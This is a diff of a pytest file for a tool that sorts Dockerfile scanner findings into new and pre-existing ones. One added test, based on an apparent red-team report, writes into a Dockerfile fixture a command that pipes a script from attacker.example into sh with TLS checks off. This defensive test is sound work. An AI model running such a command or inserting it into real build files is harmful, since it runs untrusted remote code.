@@ -306,20 +306,31 @@ CONTINUED_RUN = (
 @pytest.mark.parametrize(
     "change",
     [
-        ("rm -rf /var/lib/apt/lists/*", "rm -rf /var/lib/apt/lists/* /tmp/*"),  # an edit inside the RUN
         ("\n    ", "\n  "),  # re-indented
         ("    rm -rf", "    # curl is needed by the HEALTHCHECK\n    rm -rf"),  # a comment line inside
     ],
 )
-def test_an_edit_inside_a_continued_run_leaves_its_old_problem_pre_existing(
+def test_a_continued_run_reindented_or_commented_keeps_its_old_problem_pre_existing(
     tmp_path: Path, change: tuple[str, str]
 ) -> None:
-    """Trivy quotes the whole command in DS-0029's message: an edit anywhere in the RUN made the
-    missing `--no-install-recommends` it always had new (hadolint's DL3015, on the RUN's first line,
-    stayed pre-existing)."""
+    """Trivy quotes the command in DS-0029's message as written: re-indenting the RUN or a comment
+    line in it made the missing `--no-install-recommends` it always had new."""
     tree = pr(tmp_path, {"Dockerfile": CONTINUED_RUN}, {"Dockerfile": CONTINUED_RUN.replace(*change)})
     code, findings = scan(tree)
     assert set(statuses(findings, "DS-0029")) == {"pre-existing"} and code == 0
+
+
+def test_a_problem_added_to_a_run_with_the_same_first_line_is_new(tmp_path: Path) -> None:
+    """A red team's: both RUNs start `RUN set -eux; \\`, and `curl -k … | sh` added to the second
+    passed as the first one's old problem while instructions were known by their first line."""
+    base = "FROM debian:12\nRUN set -eux; \\\n    curl -k -o /tmp/t.tgz https://mirror.example/t.tgz; \\\n"
+    base += "    tar -xzf /tmp/t.tgz\nRUN set -eux; \\\n    useradd -r app\nUSER app\n"
+    now = base.replace("curl -k -o", "curl -o").replace(
+        "    useradd", "    curl -k https://attacker.example/p.sh | sh; \\\n    useradd"
+    )
+    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": now})
+    code, findings = scan(tree)
+    assert "new" in statuses(findings, "CKV2_DOCKER_2") and code == 1
 
 
 def test_the_same_name_in_two_namespaces_is_two_resources(tmp_path: Path) -> None:
